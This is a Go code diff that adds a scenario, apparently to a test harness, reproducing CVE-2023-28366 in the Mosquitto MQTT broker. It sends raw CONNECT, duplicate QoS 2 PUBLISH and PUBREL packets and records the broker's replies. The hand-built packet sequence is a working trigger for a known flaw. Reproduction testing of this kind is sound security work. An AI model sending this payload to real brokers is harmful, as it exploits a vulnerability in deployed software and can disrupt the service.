@@ -23,6 +23,7 @@ var scenarios = map[string]scenario{
 	"redis-accept":      {startRedis, redisEval}, // a connection of its own
 	"haproxy-length":    {startHAProxy, haproxyLength},
 	"mosquitto-publish": {startMosquitto, mosquittoPublish},
+	"mosquitto-store":   {startMosquitto, mosquittoStore},
 	"dnsmasq-forward":   {startDnsmasq, dnsmasqForward},
 	"tinyproxy-request": {startTinyproxy, tinyproxyRequest},
 	"memcached-proxy":   {startMemcached, memcachedProxy},
@@ -167,6 +168,36 @@ func mosquittoPublish(_ context.Context, p *process) (string, error) {
 		return "", fmt.Errorf("CONNECT is answered with %x (%w)", ack, err)
 	}
 	return answer, nil
+}
+
+// mosquittoStore publishes a message of QoS 2, which the broker stores until the client
+// releases it, twice (CVE-2023-28366), and gives what it is answered.
+func mosquittoStore(_ context.Context, p *process) (string, error) {
+	c, err := dial(p.port)
+	if err != nil {
+		return "", err
+	}
+	defer c.Close()
+	text := ""
+	for _, packet := range []struct {
+		send string
+		size int
+	}{
+		{"\x10\x0d\x00\x04MQTT\x04\x02\x00\x3c\x00\x01b", 4},
+		{"\x34\x06\x00\x01t\x00\x07x", 4},
+		{"\x3c\x06\x00\x01t\x00\x07x", 4},
+		{"\x62\x02\x00\x07", 4},
+	} {
+		if _, err := c.Write([]byte(packet.send)); err != nil {
+			return "", err
+		}
+		answer := make([]byte, packet.size)
+		if _, err := io.ReadFull(c, answer); err != nil {
+			return "", fmt.Errorf("%x is answered with %x (%w)", packet.send, answer, err)
+		}
+		text += fmt.Sprintf("%x ", answer[0])
+	}
+	return strings.TrimSpace(text), nil
 }
 
 // startDnsmasq starts two: one that forwards, and one that answers.
